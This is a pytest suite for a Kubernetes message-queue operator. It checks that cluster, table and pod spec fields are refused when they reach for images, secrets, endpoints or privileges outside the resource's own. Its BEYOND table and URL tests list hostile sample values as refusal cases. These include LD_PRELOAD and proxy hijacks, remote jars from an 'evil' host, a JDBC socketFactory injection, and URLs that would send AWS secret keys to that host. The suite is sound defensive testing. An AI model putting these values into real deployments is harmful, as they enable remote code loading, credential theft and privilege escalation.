"""Each field of text of each kind is the resource's own, for a reason that stands here, or is held to a rule: wherever
it is, and out of the box.
"""

import asyncio
import typing
from collections.abc import Iterator
from typing import Any

import pytest
from kinds_of_a_test import KINDS, KindOfATest
from kube_of_a_test import KubeOfATest, context_of
from pydantic import BaseModel
from pydantic.fields import FieldInfo
from tables_world import World, ready, run

from bmq_operator.allowed import VALUES, Allowed
from bmq_operator.borrowed import RULES, Named, Own, reaches, rule_of, why_not_allowed
from bmq_operator.clusters.existing import Existing
from bmq_operator.clusters.gathering import gather
from bmq_operator.clusters.refused import NotToBe
from bmq_resources.channel import ChannelSpec, DeclaredChannelSpec
from bmq_resources.channel_rules import Key, LaneOf, Redact, Target
from bmq_resources.channel_rules import ValueSchema as ValuesOfChannel
from bmq_resources.cluster import (
    Cluster,
    ClusterSpec,
    Credentials,
    EmbeddedMinio,
    Listener,
    Network,
    Settings,
    Store,
    TopicsFrom,
)
from bmq_resources.iceberg import Iceberg
from bmq_resources.lane import BaseReads, LaneSpec
from bmq_resources.parquet_sink import ParquetSinkSpec
from bmq_resources.pods import Image, Placement, Resources
from bmq_resources.references import ClusterRef
from bmq_resources.spark import SparkPod
from bmq_resources.tables import Compact, ConfigMapKey, Continuous, StoreAccess, Table, ValueSchema
from bmq_resources.topic import TopicSpec

Field = tuple[type[BaseModel], str]


def anti_affinity(*terms: dict[str, Any]) -> dict[str, Any]:
    """Of pods that no pod that the terms match may be beside."""
    required = [{"topologyKey": "kubernetes.io/hostname", **term} for term in terms]
    return {"podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": required}}


OWN: dict[Field, str] = {
    (Image, "tag"): "of an image that is allowed; its pattern lets no other image stand in it",
    (ClusterSpec, "cluster_id"): "compared with what the store has",
    (ClusterSpec, "config"): "of the cluster itself, by Kafka's names",
    (Credentials, "access_key_id_key"): "of a Secret that is allowed",
    (Credentials, "secret_access_key_key"): "of a Secret that is allowed",
    (EmbeddedMinio, "bucket"): "in its own MinIO",
    (EmbeddedMinio, "storage"): "a size, which quotas of the namespace bound",
    (Resources, "requests"): "amounts, which quotas of the namespace bound",
    (Resources, "limits"): "amounts, which quotas of the namespace bound",
    (Placement, "node_selector"): "chooses among nodes that take the pods; those that are to take none have taints",
    (Listener, "name"): "of its own Services",
    (Listener, "advertised_host"): "told to its own clients",
    (Listener, "source_ranges"): "keeps clients out",
    (Network, "admin_from_namespaces"): "lets others in to what is its own",
    (TopicsFrom, "namespaces"): "lets others in to what is its own",
    (ClusterRef, "name"): "the Cluster says by topicsFrom whom it takes",
    (ClusterRef, "namespace"): "the Cluster says by topicsFrom whom it takes",
    (LaneSpec, "lane_name"): "a name in the cluster, which has one owner",
    (LaneSpec, "parent"): "a lane of the same cluster, which gets what goes on as from any client there",
    (BaseReads, "topics"): "topics of the Cluster that takes the Lane",
    (TopicSpec, "topic_name"): "a name in the cluster, which has one owner",
    (TopicSpec, "config"): "of its own topic",
    (DeclaredChannelSpec, "channel_name"): "a name in the cluster, which has one owner",
    (ChannelSpec, "topic"): "a topic of the Cluster that takes the Channel",
    (ChannelSpec, "dead_letter"): "another channel of that Cluster",
    (Target, "topic"): "a topic of the Cluster that takes the Channel, or of the address beside it",
    (
        Target,
        "bootstrap_servers",
    ): "connected to by sidecars, with what was written to this very channel; NetworkPolicies of their pods bound it",
    (Key, "field"): "a place in messages",
    (Key, "header"): "a header of messages",
    (Key, "constant"): "its own",
    (LaneOf, "header"): "a header of messages",
    (LaneOf, "baggage"): "a header of messages",
    (ValuesOfChannel, "json_schema"): "its own: a schema refers to nothing outside",
    (Redact, "replace"): "places in messages",
    (Redact, "remove"): "places in messages",
    (Redact, "text"): "its own",
    (ParquetSinkSpec, "topics"): "topics of the Cluster that takes the ParquetSink",
    (Table, "schedule"): "a time",
    (Table, "time_zone"): "a time",
    (Table, "target_file_size"): "an amount",
    (Table, "retention"): "a time",
    (Table, "lane"): "of the Cluster that takes it",
    (Table, "message"): "a name in its own schema",
    (Iceberg, "table"): "a name in the catalog",
    (Iceberg, "warehouse"): "opened with keys that are allowed",
    (StoreAccess, "region"): "where keys that are allowed are used",
    (Iceberg, "upsert_key"): "a column",
    (Continuous, "trigger"): "a time",
    (Compact, "schedule"): "a time",
    (Compact, "older_than"): "a time",
    (Compact, "vacuum_older_than"): "a time",
    (ValueSchema, "text"): "its own",
    (ConfigMapKey, "key"): "of a ConfigMap that is allowed",
    (StoreAccess, "access_key_id_key"): "of a Secret that is allowed",
    (StoreAccess, "secret_access_key_key"): "of a Secret that is allowed",
    (SparkPod, "core_request"): "an amount, which quotas of the namespace bound",
    (SparkPod, "core_limit"): "an amount, which quotas of the namespace bound",
    (SparkPod, "memory"): "an amount, which quotas of the namespace bound",
    (SparkPod, "memory_overhead"): "an amount, which quotas of the namespace bound",
}
BEYOND: dict[Field, tuple[Any, ...]] = {
    # Of each rule: what nobody may have out of the box.
    (Image, "repository"): ("evil.example/pwn",),
    (Image, "pull_secrets"): (["database"],),
    (Credentials, "secret_name"): ("database",),
    (EmbeddedMinio, "image"): ("evil.example/pwn:1",),
    (EmbeddedMinio, "storage_class_name"): ("fastest",),
    (Listener, "annotations"): (
        {"external-dns.alpha.kubernetes.io/hostname": "bank.example"},
        {"service.beta.kubernetes.io/aws-load-balancer-ssl-cert": "arn:aws:acm:x"},
        {"metallb.universe.tf/loadBalancerIPs": "10.0.0.1"},
    ),
    (Store, "url"): (
        "gs://bucket?endpoint=https://evil.example",
        "gs://bucket/prefix?endpoint=http://evil.example:80/x.googleapis.com",
        "az://container?account=mine&endpoint=https://evil.example",
    ),
    (Placement, "affinity"): (
        anti_affinity({"namespaceSelector": {}}),
        anti_affinity({"namespaces": ["payments"]}),
        anti_affinity({}, {"labelSelector": {}, "namespaceSelector": {"matchLabels": {"a": "b"}}}),
    ),
    (Placement, "priority_class_name"): ("system-cluster-critical", "high"),
    (Placement, "annotations"): (
        {"k8s.v1.cni.cncf.io/networks": "kube-system/host"},
        {"sidecar.istio.io/userVolume": "[{}]"},
        {"vault.hashicorp.com/agent-inject": "true"},
        {"iam.amazonaws.com/role": "admin"},
        {"container.apparmor.security.beta.kubernetes.io/bmq": "unconfined"},
        {"anything": ""},
    ),
    (Placement, "labels"): (
        {"app": "payments"},
        {"azure.workload.identity/use": "true"},
        {"sidecar.istio.io/inject": "true"},
    ),
    (Placement, "tolerations"): (
        [{"operator": "Exists"}],
        [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}],
        [{"key": "node.kubernetes.io/not-ready", "operator": "Exists"}, {"key": "gpu", "value": "a"}],
    ),
    (Placement, "env"): (
        [{"name": "PYTHONWARNINGS", "value": "all:0:antigravity.x:0:0"}],
        [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}],
        [{"name": "HTTPS_PROXY", "value": "http://evil"}],
        [{"name": "AWS_ENDPOINT_URL_STS", "value": "http://evil"}],
        [{"name": "AWS_ENDPOINT_URL", "value": "http://evil"}],
        [{"name": "AWS_ENDPOINT_URL_S3", "value": "http://another-store"}],
        [{"name": "BMQ_Store", "value": "s3://another"}],
        [{"name": "BMQ_CLUSTER_SECRETS_ACCEPTED", "value": "x" * 32}],
        [{"name": "TZ", "value": "UTC"}, {"name": "", "value": "x"}],
    ),
    (Settings, "env"): (
        {"BMQ_Store": "s3://another"},
        {"BMQ_Cluster_Id": "another"},
        {"BMQ_ADMIN_TOKENS_ACCEPTED": "x" * 32},
        {"BMQ_CLUSTER_SECRET_FILE": "/f"},
    ),
    (Table, "image"): ("evil.example/pwn:1",),
    (Table, "service_account"): ("admin-bot",),
    (Table, "spark_conf"): (
        {"spark.jars": "http://evil/x.jar"},
        {"spark.log.level": "${env:A}"},
        {"spark.io.compression.codec": "evil.Codec"},
    ),
    (Table, "consumer_config"): ({"interceptor.classes": "evil.Class"},),
    (StoreAccess, "secret_name"): ("database",),
    (ConfigMapKey, "name"): ("vault",),
    (Iceberg, "catalog_uri"): (
        "jdbc:postgresql://db/lake?socketFactory=evil.Class",
        "http://evil/${env.AWS_SECRET_ACCESS_KEY}",
    ),
    (Table, "output"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
    (Table, "checkpoint"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
    (Table, "registry"): ("http://evil/${env.AWS_SECRET_ACCESS_KEY}",),
    (Table, "group"): ("${env:AWS_SECRET_ACCESS_KEY}",),
    (ValueSchema, "uri"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
    (StoreAccess, "endpoint"): ("http://evil/${env.AWS_SECRET_ACCESS_KEY}",),
}
BESIDE: dict[Field, dict[str, Any]] = {
    # What else has to stand in the part for the field to mean something.
    (EmbeddedMinio, "image"): {"embedded": True},
    (EmbeddedMinio, "storage_class_name"): {"embedded": True},
    (Iceberg, "catalog_uri"): {"catalogType": "sql"},
}


def parts_of(annotation: Any) -> Iterator[Any]:
    """A type and all within it, but for the values of a Literal."""
    yield annotation
    for inner in () if typing.get_origin(annotation) is typing.Literal else typing.get_args(annotation):
        yield from parts_of(inner)


def is_text(field: FieldInfo) -> bool:
    return any(one is str or one is Any for one in parts_of(field.annotation))


def models_of(field: FieldInfo) -> list[type[BaseModel]]:
    return [one for one in parts_of(field.annotation) if isinstance(one, type) and issubclass(one, BaseModel)]


def owner_of(model: type[BaseModel], name: str) -> type[BaseModel]:
    """Where a field is written: not in what extends it."""
    return next(one for one in reversed(model.__mro__) if name in getattr(one, "__annotations__", {}))


def fields_below(model: type[BaseModel], path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Field]]:
    """Paths, in camelCase, of all fields of text and of all that have a rule; * stands for the items of a list."""
    for name, field in model.model_fields.items():
        where = (*path, field.alias or name)
        if rule_of(model, name) is not None or is_text(field):
            yield where, (owner_of(model, name), name)
        if rule_of(model, name) is None:
            items = ("*",) if typing.get_origin(field.annotation) is list else ()
            for inner in models_of(field):
                yield from fields_below(inner, (*where, *items))


def all_fields() -> Iterator[tuple[KindOfATest, tuple[str, ...], Field]]:
    for kind in KINDS:
        yield from ((kind, path, field) for path, field in fields_below(kind.spec))


def spec_with(path: tuple[str, ...], field: Field, value: Any) -> dict[str, Any]:
    """That alone, and what has to stand beside it."""
    found: Any = BESIDE.get(field, {}) | {path[-1]: value}
    for step in reversed(path[:-1]):
        found = [found] if step == "*" else {step: found}
    return dict(found)


def test_every_field_of_text_has_a_rule_or_a_reason_for_none() -> None:
    found = {field for _, _, field in all_fields()}
    without = {f"{model.__name__}.{name}" for model, name in found - OWN.keys() - RULES.keys()}
    assert not without, (
        "say in borrowed.RULES by which rule of the chart they may name what is not the resource's own, or in OWN "
        "of this test why they need none"
    )
    assert OWN.keys() <= found, "these are gone, or have a rule now"
    assert RULES.keys() <= found, "these are gone"


def beyond_of(kinds: set[str]) -> Iterator[Any]:
    for kind, path, field in all_fields():
        for number, value in enumerate(BEYOND.get(field, ())):
            if kind.name in kinds:
                yield pytest.param(kind, path, field, value, id=f"{kind.name}/{'.'.join(path)}/{number}")


def refused(kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any, allow: Allowed) -> list[str | Named]:
    spec = kind.spec.model_validate(spec_with(path, field, value))
    return [one for one in reaches(spec, allow=allow, own=Own(images=("bmq:1",))) if one]


@pytest.mark.parametrize(("kind", "path", "field", "value"), list(beyond_of({one.name for one in KINDS})))
def test_what_is_not_its_own_is_refused_wherever_a_kind_has_the_field(
    kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any
) -> None:
    [found] = refused(kind, path, field, value, Allowed())
    named = found.field if isinstance(found, Named) else found.partition(":")[0]
    assert named == ".".join(path).replace(".*", "[0]")
    is_nobodys = isinstance(found, str) and (
        ("bmq's chart" not in found and field[1] == "env") or "would be a variable" in found
    )
    assert isinstance(found, Named) or is_nobodys or "bmq's chart" in found or "write jdbc:" in found
    everything = Allowed(
        **dict.fromkeys(Allowed.model_fields.keys() - {"node_ports"}, ("*",))
        | {"spark_conf": ("*", "spark.io.compression.codec")}
    )
    is_object = field[1] in ("pull_secrets", "secret_name", "service_account", "name")
    code = field in ((Table, "consumer_config"),)
    assert bool(refused(kind, path, field, value, everything)) == (is_object or code or is_nobodys), (
        "the chart can allow it"
    )


def test_each_rule_is_tried() -> None:
    assert BEYOND.keys() == RULES.keys()
    assert set(VALUES) == {"Secret", "ConfigMap", "ServiceAccount"}


@pytest.mark.parametrize("there", [False, True], ids=["there is none", "it says nothing"])
@pytest.mark.parametrize(("kind", "path", "field", "value"), list(beyond_of({"Cluster"})))
def test_nothing_is_made_of_a_cluster_that_reaches_for_what_is_not_its_own(
    kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any, there: bool
) -> None:
    store = {"url": "s3://b"} if path[0] == "store" and path[1] == "credentials" else {"minio": {"embedded": True}}
    spec = spec_with(path, field, value)
    spec = {**spec, "store": {**store, **spec.get("store", {})}}
    cluster = Cluster.model_validate({"metadata": {"name": "bmq", "namespace": "shop", "uid": "uid-bmq"}, "spec": spec})
    kube = KubeOfATest()
    if there:
        kube.keep({"kind": "Secret", "metadata": {"name": "database", "namespace": "shop"}})
    with pytest.raises(NotToBe) as told:
        asyncio.run(gather(context_of(kube, "", {}), cluster, Existing(objects={}, pods=()), advertised=""))
    is_object = field[1] in ("pull_secrets", "secret_name")
    assert told.value.finding.reason == ("SecretMissing" if is_object and not there else "NotAllowed")
    assert "bmq.io/use=allowed" in told.value.finding.message or not is_object


@pytest.mark.parametrize(("kind", "path", "field", "value"), list(beyond_of({"ParquetSink"})))
def test_nothing_is_made_of_a_table_that_reaches_for_what_is_not_its_own(
    kind: KindOfATest, path: tuple[str, ...], field: Field, value: Any
) -> None:
    async def use(world: World) -> None:
        spec = {**kind.base(".".join(path)), "store": {}, **spec_with(path, field, value)}
        if path[0] == "iceberg":
            spec["iceberg"] |= {"table": "a.b.c", "warehouse": "s3a://w/x"}
        found = ready(await world.look(spec, oneTable=True))
        is_object = field[1] in ("secret_name", "service_account", "name")
        assert found.status == "False"
        assert found.reason.endswith("Missing") if is_object else found.reason == "NotAllowed"
        assert world.kube.writes == []

    run(use)


def test_a_topics_table_is_named_as_it_stands_there() -> None:
    kind = next(one for one in KINDS if one.name == "Topic")
    spec = kind.spec.model_validate({"parquet": {**kind.base("parquet")["parquet"], "sparkConf": {"spark.jars": "x"}}})
    assert isinstance(spec, TopicSpec) and spec.parquet is not None
    allow, own = Allowed(), Own(images=())
    found = asyncio.run(
        why_not_allowed(KubeOfATest(), spec.parquet, namespace="shop", allow=allow, own=own, path="parquet")
    )  # type: ignore[arg-type]
    assert found is not None and found.message.startswith("parquet.sparkConf: spark.jars is none")


def test_what_is_usual_needs_no_leave() -> None:
    placement = {
        "annotations": {"prometheus.io/scrape": "true"},
        "tolerations": [
            {
                "key": "node.kubernetes.io/unreachable",
                "operator": "Exists",
                "effect": "NoExecute",
                "tolerationSeconds": 5,
            }
        ],
        "env": [{"name": "BMQ_FLUSH_BYTES", "value": "8MiB"}, {"name": "TZ", "value": "UTC"}],
        "nodeSelector": {"pool": "queues"},
    }
    annotations = {"service.beta.kubernetes.io/aws-load-balancer-internal": "true"}
    listeners = [{"name": "outside", "type": "LoadBalancer", "annotations": annotations}]
    spec = ClusterSpec.model_validate(
        {"store": {"minio": {"embedded": True}}, "brokers": {"placement": placement}, "listeners": listeners}
    )
    assert [one for one in reaches(spec, allow=Allowed(), own=Own(images=())) if one] == []


def test_pods_of_a_lane_of_another_namespace_keep_none_of_the_clusters_off_their_nodes() -> None:
    def why(affinity: dict[str, Any], *, elsewhere: str, allow: Allowed | None = None) -> list[str | Named]:
        spec = LaneSpec.model_validate({"clusterRef": {"name": "c"}, "proxies": {"placement": {"affinity": affinity}}})
        return [one for one in reaches(spec, allow=allow or Allowed(), own=Own(images=(), elsewhere=elsewhere)) if one]

    keeps_off = anti_affinity({"labelSelector": {}})
    assert why(keeps_off, elsewhere="") == []
    [text] = why(keeps_off, elsewhere="shop")
    assert isinstance(text, str) and "shop" in text and "allow.affinityNamespaces" in text
    assert why(keeps_off, elsewhere="shop", allow=Allowed(affinity_namespaces=("shop",))) == []


@pytest.mark.parametrize(
    "odd",
    [
        {"podAntiAffinity": 3},
        {"podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"a": 1}}},
        anti_affinity(),
    ],
)
def test_an_affinity_of_another_shape_is_the_api_servers_to_refuse(odd: dict[str, Any]) -> None:
    spec = LaneSpec.model_validate({"clusterRef": {"name": "c"}, "proxies": {"placement": {"affinity": odd}}})
    assert [one for one in reaches(spec, allow=Allowed(), own=Own(images=())) if one] == []


@pytest.mark.parametrize(
    "url",
    [
        "gs://bucket",
        "gs://bucket?endpoint=https://storage.googleapis.com",
        "s3://bucket?endpoint=http://minio:9000",
        "s3://bucket/prefix?region=eu-west-1",
        "az://container?account=mine",
        "az://container?account=mine&endpoint=https://mine.blob.core.windows.net",
    ],
)
def test_the_identity_of_nodes_is_shown_to_whoever_gave_it_alone(url: str) -> None:
    assert [one for one in reaches(Store(url=url), allow=Allowed(), own=Own(images=())) if one] == []


@pytest.mark.parametrize(
    "url",
    [
        "gs://bucket?endpoint=evil",
        "gs://bucket?endpoint=https://storage.googleapis.com@evil.example",
        "az://container?account=evil.example/x",
        "az://container?account=evil.example%23",
        "az://container?account=mine&endpoint=https://evil.example\\@x.blob.core.windows.net",
        "gs://bucket?endpoint=https://evil.example%5C@storage.googleapis.com",
        "gs://bucket?endpoint=https://evil.example%5C.googleapis.com",
        "gs://evil.example\\x?endpoint=https://storage.googleapis.com",
        "gs://[bucket",
        "s3://bucket?region=x%40evil.example/",
        "s3://bucket?region=eu-west-1&endpoint=https://evil.example\\@minio",
    ],
)
def test_a_store_that_parsers_of_urls_would_read_differently_is_nobodys(url: str) -> None:
    everything = Allowed(store_endpoints=("*",))
    [found] = [one for one in reaches(Store(url=url), allow=everything, own=Own(images=()), path="store") if one]
    assert isinstance(found, str) and found.startswith("store.url: ") and (": write " in found or ": use " in found)
